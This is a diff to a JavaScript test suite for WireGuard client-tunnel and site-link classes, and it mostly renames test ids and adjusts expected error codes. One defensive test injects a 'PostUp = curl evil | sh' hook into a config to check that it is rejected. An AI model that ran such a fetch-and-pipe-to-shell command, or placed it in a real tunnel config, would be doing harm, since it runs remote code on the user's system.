@@ -51,10 +51,10 @@ describe("ClientTunnel (SDK mocks)", () => {
   });
 
   it("rejects provider confs that would run hooks, and split-tunnel options without a table", () => {
-    rejects(() => new ClientTunnel("x", { config: providerConf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }), "config", "hooks-not-allowed");
-    rejects(() => new ClientTunnel("x", { config: providerConf, routeDestinations: ["10.0.0.0/8"] }), "routeDestinations", "needs-table");
-    rejects(() => new ClientTunnel("x", { config: providerConf, table: "main" }), "table", "table");
-    rejects(() => new ClientTunnel("x", { config: providerConf + "[Interface]\n" }), "config:line 10", "duplicate-interface");
+    rejects(() => new ClientTunnel("xx", { config: providerConf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }), "config", "hooks-not-allowed");
+    rejects(() => new ClientTunnel("xx", { config: providerConf, routeDestinations: ["10.0.0.0/8"] }), "routeDestinations", "needs-table");
+    rejects(() => new ClientTunnel("xx", { config: providerConf, table: "main" }), "table", "reserved-table");
+    rejects(() => new ClientTunnel("xx", { config: providerConf + "[Interface]\n" }), "config:line 10", "duplicate-interface");
   });
 });
 
@@ -84,12 +84,12 @@ describe("SiteLink (SDK mocks)", () => {
     await value(l.siteA.install.stdout);
     await settle();
     assert.deepEqual(parseWgQuick(await value(l.siteA.config)).interface.address, ["10.255.14.1/24"]);
-    assert.ok(m.byType("command:local:Command").some((r) => r.name === "bare-a-install"));
+    assert.ok(m.byType("command:local:Command").some((r) => r.name === "bare--a-install"));
   });
 
   it("rejects overlapping LANs and links where nobody can dial", () => {
-    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.0.0/16"] } }), "siteB.lans[0]", "overlap");
-    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["192.168.1.0/24"] }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.endpoint", "no-endpoint");
-    rejects(() => new SiteLink("l", { siteA: { name: "a", lans: ["10.255.13.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.lans[0]", "overlap");
+    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.0.0/16"] } }), "siteB.lans[0]", "overlap");
+    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["192.168.1.0/24"] }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.endpoint", "no-endpoint");
+    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["10.255.13.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.lans[0]", "overlap");
   });
 });
